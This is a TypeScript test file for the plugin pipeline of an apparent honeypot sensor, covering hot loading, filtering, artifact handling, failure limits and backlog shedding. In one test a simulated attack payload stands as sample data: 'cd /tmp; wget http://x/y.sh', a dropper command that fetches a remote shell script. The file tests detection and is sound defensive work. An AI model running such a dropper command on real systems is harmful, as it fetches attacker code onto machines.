// The plugin host end to end inside one process: real plugin folders, the real
// worker engine, a real LevelDB store. Covers hot load/unload, filters,
// `after` ordering, artifacts handed to consumers, failures recorded with the
// attack and counted, auto-disable, operator disable kept in the store, and
// the bounded backlog.
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { newAttackId } from '../../src/attack/id.js';
import type { Attack } from '../../src/generated/attack.js';
import type { ResolvedConfig } from '../../src/generated/config-resolved.js';
import type { PluginRecord } from '../../src/generated/plugin-record.js';
import { createEngines } from '../../src/plugins/engines/index.js';
import { HOST_API_VERSION } from '../../src/plugins/engine.js';
import { PluginHost } from '../../src/plugins/host.js';
import { AttackStore } from '../../src/store/attack-store.js';

const log = pino({ level: 'silent' });
let root: string;
let store: AttackStore;
let host: PluginHost | undefined;

beforeEach(async () => {
  root = mkdtempSync(join(tmpdir(), 'ht-pipeline-'));
  mkdirSync(join(root, 'plugins'));
  store = await AttackStore.open(join(root, 'store'), { batchSize: 16, flushIntervalMs: 5 });
});

afterEach(async () => {
  await host?.stop();
  host = undefined;
  await store.close();
  rmSync(root, { recursive: true, force: true });
});

function plugin(name: string, code: string, manifest: Record<string, unknown> = {}): string {
  const dir = join(root, 'plugins', name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'plugin.json'),
    JSON.stringify({
      manifestVersion: 1,
      name,
      version: '1.0.0',
      hostApi: '^1.0.0',
      engine: 'worker',
      entry: 'index.mjs',
      consumes: { attacks: {} },
      limits: { timeoutMs: 1500, memoryMb: 64, concurrency: 2 },
      ...manifest,
    }),
  );
  writeFileSync(join(dir, 'index.mjs'), code);
  return dir;
}

const findWord = (word: string) => `export default { analyze(input) {
  const text = Buffer.from(input.attack.received.data, 'base64').toString('latin1');
  const at = text.indexOf(${JSON.stringify(word)});
  return { findings: at < 0 ? [] : [{ type: 'signature', value: ${JSON.stringify(word)}, offset: at }] };
} };`;

function config(over: Partial<ResolvedConfig['plugins']> = {}): ResolvedConfig['plugins'] {
  return {
    dirs: [join(root, 'plugins')],
    builtin: false,
    disabled: [],
    config: {},
    maxBacklog: 1000,
    failureLimit: 3,
    maxArtifactBytes: 1 << 20,
    maxResultBytes: 1 << 20,
    network: {
      allowPrivate: false,
      hosts: {},
      maxBytes: 1 << 20,
      timeoutMs: 10_000,
      perDestination: { requests: 100, perSeconds: 1 },
      maxConcurrent: 16,
    },
    files: { root: join(root, 'files'), dirs: {} },
    databases: {},
    retry: { initialMs: 50, maxMs: 400, maxQueued: 1000 },
    ...over,
  };
}

async function startHost(over: Partial<ResolvedConfig['plugins']> = {}): Promise<PluginHost> {
  host = new PluginHost(config(over), createEngines(log), store, log);
  await host.start();
  return host;
}

async function attack(
  received: string,
  port = 2323,
  proto: 'tcp' | 'udp' = 'tcp',
): Promise<Attack> {
  const now = Date.now();
  const a: Attack = {
    schemaVersion: 1,
    id: newAttackId(now),
    sensor: 'test',
    startedAt: new Date(now).toISOString(),
    endedAt: new Date(now).toISOString(),
    proto,
    local: { address: '10.99.0.2', port },
    remote: { address: '10.99.0.1', port: 40000 },
    mode: 'normal',
    endReason: 'closed',
    received: {
      length: Buffer.byteLength(received),
      data: Buffer.from(received).toString('base64'),
      truncated: false,
    },
    sent: { length: 0, data: '', truncated: false },
    chunks: [],
    plugins: {},
  };
  await store.save(a);
  return a;
}

async function until<T>(
  what: string,
  fn: () => Promise<T | undefined> | T | undefined,
  ms = 10_000,
): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v !== undefined && v !== false) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

async function results(h: PluginHost, a: Attack): Promise<Record<string, PluginRecord>> {
  h.submit(a);
  await h.pipeline.drained();
  return (await store.get(a.id))!.plugins as Record<string, PluginRecord>;
}

describe('plugin pipeline', () => {
  it('runs matching plugins and stores their findings with the attack', async () => {
    plugin('find-wget', findWord('wget'));
    plugin('only-udp', findWord('wget'), { consumes: { attacks: { protocols: ['udp'] } } });
    plugin('only-port-80', findWord('wget'), {
      consumes: { attacks: { ports: [80, '8000-8100'] } },
    });
    const h = await startHost();
    expect(h.list().map((p) => [p.name, p.state])).toEqual([
      ['find-wget', 'ready'],
      ['only-port-80', 'ready'],
      ['only-udp', 'ready'],
    ]);
    const r = await results(h, await attack('cd /tmp; wget http://x/y.sh', 8080));
    expect(Object.keys(r).sort()).toEqual(['find-wget', 'only-port-80']);
    expect(r['find-wget']).toMatchObject({
      plugin: 'find-wget',
      version: '1.0.0',
      status: 'ok',
      findings: [{ type: 'signature', value: 'wget', offset: 9 }],
      artifacts: [],
    });
    expect(h.list().find((p) => p.name === 'find-wget')?.counters).toMatchObject({
      runs: 1,
      ok: 1,
      failed: 0,
    });
  });

  it('gives a plugin the results of the plugins it runs after', async () => {
    plugin(
      'first',
      `export default { async analyze() { await new Promise((r) => setTimeout(r, 200)); return { findings: [{ type: 'note', value: 'one' }] }; } };`,
    );
    plugin(
      'second',
      `export default { analyze(input) { return { findings: [{ type: 'note', value: 'saw:' + JSON.stringify(Object.keys(input.results)) + ':' + input.results.first?.findings?.[0]?.value }] }; } };`,
      { after: ['first'] },
    );
    const h = await startHost();
    const r = await results(h, await attack('x'));
    expect(r.second?.findings).toEqual([{ type: 'note', value: 'saw:["first"]:one' }]);
  });

  it('stores artifacts once by SHA-256 and hands them to the plugins that consume them', async () => {
    plugin(
      'decoder',
      `export default { analyze(input) {
        const text = Buffer.from(input.attack.received.data, 'base64').toString();
        return { artifacts: [{ name: 'decoded.sh', contentType: 'text/x-shellscript', data: Buffer.from(text.split('|')[1]).toString('base64') }] };
      } };`,
      { capabilities: { artifacts: true } },
    );
    plugin(
      'artifact-reader',
      `export default { analyze(input) { return { findings: [{ type: 'note', value: input.artifact.producer + ':' + Buffer.from(input.artifact.data, 'base64').toString() }] }; } };`,
      {
        consumes: { artifacts: { contentTypes: ['text/*'] } },
      },
    );
    const h = await startHost();
    const a = await attack('echo|#!/bin/sh busybox');
    h.submit(a);
    await h.pipeline.drained();
    const r = (await store.get(a.id))!.plugins as Record<string, PluginRecord>;
    const ref = r.decoder?.artifacts[0];
    expect(ref).toMatchObject({ contentType: 'text/x-shellscript', size: 17, name: 'decoded.sh' });
    const stored = await store.getArtifact(ref!.sha256);
    expect(stored?.data.toString()).toBe('#!/bin/sh busybox');
    expect(stored?.meta.attacks).toEqual([a.id]);
    const readerKey = `artifact-reader@${ref!.sha256.slice(0, 12)}`;
    expect(r[readerKey]).toMatchObject({
      status: 'ok',
      input: ref!.sha256,
      findings: [{ type: 'note', value: 'decoder:#!/bin/sh busybox' }],
    });
    // The same bytes from another attack: stored once, both attacks remembered.
    const b = await attack('again|#!/bin/sh busybox');
    h.submit(b);
    await h.pipeline.drained();
    expect((await store.getArtifact(ref!.sha256))?.meta.attacks).toEqual([a.id, b.id]);
  });

  it('refuses artifacts and network use the manifest does not grant, recording why', async () => {
    plugin(
      'no-artifacts',
      `export default { analyze() { return { artifacts: [{ data: 'aGk=' }] }; } };`,
    );
    plugin(
      'bad-shape',
      `export default { analyze() { return { findings: [{ type: 'url' }] }; } };`,
    );
    const h = await startHost();
    const r = await results(h, await attack('x'));
    expect(r['no-artifacts']?.error).toEqual({
      code: 'HT_PLUGIN_DENIED',
      message: 'plugin no-artifacts: wrote artifacts without the artifacts capability',
    });
    expect(r['bad-shape']?.status).toBe('error');
    expect(r['bad-shape']?.error?.code).toBe('HT_PLUGIN_RESULT');
    expect(r['bad-shape']?.error?.message).toContain('/findings/0/value: is required');
  });

  it('records each failure with the attack, keeps the others running, and disables a plugin that keeps failing', async () => {
    plugin('thrower', `export default { analyze() { throw new Error('boom'); } };`);
    plugin('looper', `export default { analyze() { for (;;) {} } };`, {
      limits: { timeoutMs: 200, memoryMb: 64, concurrency: 1 },
    });
    plugin('steady', findWord('x'));
    const h = await startHost({ failureLimit: 3 });
    const r = await results(h, await attack('x'));
    expect(r.thrower?.error?.code).toBe('HT_PLUGIN_THREW');
    expect(r.thrower?.error?.message).toContain('boom');
    expect(r.looper?.error?.code).toBe('HT_PLUGIN_TIMEOUT');
    expect(r.steady?.status).toBe('ok');
    for (let i = 0; i < 2; i++) await results(h, await attack('x'));
    const list = await until('thrower disabled', () => {
      const l = h.list();
      return l.find((p) => p.name === 'thrower')?.state === 'failed' ? l : undefined;
    });
    const thrower = list.find((p) => p.name === 'thrower')!;
    expect(thrower.reason).toMatch(/^failed 3 times in a row; last: plugin thrower: .*boom/);
    expect(thrower.counters).toMatchObject({ runs: 3, failed: 3, consecutiveFailures: 3 });
    expect(list.find((p) => p.name === 'looper')?.counters.timeouts).toBe(3);
    expect(list.find((p) => p.name === 'steady')).toMatchObject({
      state: 'ready',
      counters: { ok: 3, failed: 0 },
    });
    // A disabled plugin is no longer called.
    const after = await results(h, await attack('x'));
    expect(Object.keys(after).sort()).toEqual(['steady']);
  });

  it('loads a plugin dropped in and unloads one taken out, without a restart', async () => {
    const h = await startHost();
    expect(h.list()).toEqual([]);
    const dir = plugin('late', findWord('late'));
    await until('late loaded', () =>
      h.list().find((p) => p.name === 'late' && p.state === 'ready'),
    );
    expect(Object.keys(await results(h, await attack('late')))).toEqual(['late']);
    rmSync(dir, { recursive: true });
    await until('late unloaded', () => (h.list().length === 0 ? true : undefined));
    expect(await results(h, await attack('late'))).toEqual({});
  });

  it('refuses a bad manifest by name, field and reason, and keeps the other plugins', async () => {
    plugin('bad-api', findWord('x'), { hostApi: '^9.0.0' });
    plugin('good', findWord('x'));
    const h = await startHost();
    expect(h.list()).toEqual([
      expect.objectContaining({
        name: 'bad-api',
        state: 'invalid',
        reason: `/hostApi: plugin needs host API ^9.0.0, this host provides ${HOST_API_VERSION}`,
      }),
      expect.objectContaining({ name: 'good', state: 'ready' }),
    ]);
  });

  it('keeps an operator disable across restarts, and enable brings the plugin back', async () => {
    plugin('toggled', findWord('x'));
    let h = await startHost();
    expect((await h.registry.disable('toggled', 'disabled by the operator', true))?.state).toBe(
      'disabled',
    );
    await h.stop();
    h = await startHost();
    expect(h.list()[0]).toMatchObject({
      name: 'toggled',
      state: 'disabled',
      reason: 'disabled by the operator',
    });
    expect((await h.registry.enable('toggled'))?.state).toBe('ready');
    expect(Object.keys(await results(h, await attack('x')))).toEqual(['toggled']);
  });

  it('sheds attacks beyond the backlog instead of queueing without bound, and counts them', async () => {
    plugin(
      'slow',
      `export default { async analyze() { await new Promise((r) => setTimeout(r, 300)); return {}; } };`,
      {
        limits: { timeoutMs: 5000, memoryMb: 64, concurrency: 1 },
      },
    );
    const h = await startHost({ maxBacklog: 5 });
    for (let i = 0; i < 50; i++) h.submit(await attack(`a${i}`));
    expect(h.stats()).toMatchObject({ submitted: 50, shed: 45, backlog: 5 });
    await h.pipeline.drained();
    expect(h.stats()).toMatchObject({ processed: 5, backlog: 0 });
    expect(h.stats().latencyMs.samples).toBe(5);
  });
});
